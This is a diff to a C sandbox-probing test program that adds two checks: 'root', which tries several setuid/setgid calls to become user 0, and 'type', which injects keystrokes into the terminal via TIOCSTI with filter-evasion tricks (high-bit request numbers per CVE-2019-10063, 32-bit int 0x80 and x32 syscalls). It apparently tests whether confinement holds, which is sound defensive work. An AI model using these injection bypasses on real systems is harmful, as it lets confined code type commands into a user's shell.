@@ -13,17 +13,22 @@
      abstract NAME        connects to an abstract socket
      descriptors TEXT     finds TEXT in what its own descriptors hold
      executables          opens for writing what processes are executed from
+     root                 becomes user 0, in any of the ways there are
+     type TEXT            types into the terminal on descriptor 0, as TIOCSTI and in its disguises
 */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <grp.h>
 #include <mqueue.h>
 #include <signal.h>
 #include <stddef.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/fsuid.h>
+#include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/ptrace.h>
 #include <sys/shm.h>
@@ -200,6 +205,61 @@ static int executables(void)
     return found ? 0 : refused();
 }
 
+static int become_root(void)
+{
+    static const char *const names[] = { "real", "effective", "saved", "file system" };
+    uid_t id[4], group[4];
+    getresuid(&id[0], &id[1], &id[2]);
+    getresgid(&group[0], &group[1], &group[2]);
+    id[3] = setfsuid(-1);
+    group[3] = setfsgid(-1);
+    for (int i = 0; i < 4; i++)
+    {
+        if (id[i] != id[0] || group[i] != group[0])
+        {
+            printf("reached: %s id %u:%u\n", names[i], id[i], group[i]);
+            return 0;
+        }
+    }
+
+    if (setuid(0) == 0 || setresuid(-1, 0, -1) == 0 || setreuid(0, -1) == 0 || setgid(0) == 0 || setgroups(1, (gid_t[]) { 0 }) == 0)
+    {
+        return reached("another id");
+    }
+
+    return refused();
+}
+
+/* The kernel reads the lower half of the request alone (CVE-2019-10063), and the calls of other architectures have numbers of their own. */
+static int type(const char *text)
+{
+    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+    int typed = 0, error = 0;
+    for (const char *c = text; *c != 0; c++)
+    {
+        low[0] = *c;
+        long result = ioctl(0, TIOCSTI, low);
+        error = errno;
+        result = result == 0 ? 0 : syscall(SYS_ioctl, 0, TIOCSTI | (1UL << 32), low);
+#ifdef __x86_64__
+        pid_t child = result != 0 ? fork() : -1;
+        if (child == 0)     /* it dies where the kernel has no calls of 32 bits */
+        {
+            __asm__ volatile("int $0x80" : "=a"(result) : "a"(54L), "b"(0L), "c"((long)TIOCSTI), "d"(low) : "memory", "r8", "r9", "r10", "r11");
+            _exit(result != 0);
+        }
+
+        int status = 1;
+        result = child > 0 && waitpid(child, &status, 0) == child && status == 0 ? 0 : result;
+        result = result == 0 ? 0 : syscall(0x40000000 | 514, 0, TIOCSTI, low);
+#endif
+        typed += result == 0;
+    }
+
+    errno = error;
+    return typed > 0 ? reached("the terminal") : refused();
+}
+
 int main(int argc, char **argv)
 {
     const char *attack = argc > 1 ? argv[1] : "";
@@ -220,6 +280,8 @@ int main(int argc, char **argv)
     if (IS("abstract")) { return abstract(first); }
     if (IS("descriptors")) { return descriptors(first); }
     if (IS("executables")) { return executables(); }
+    if (IS("root")) { return become_root(); }
+    if (IS("type")) { return type(first); }
     if (IS("environ"))
     {
         char path[64];
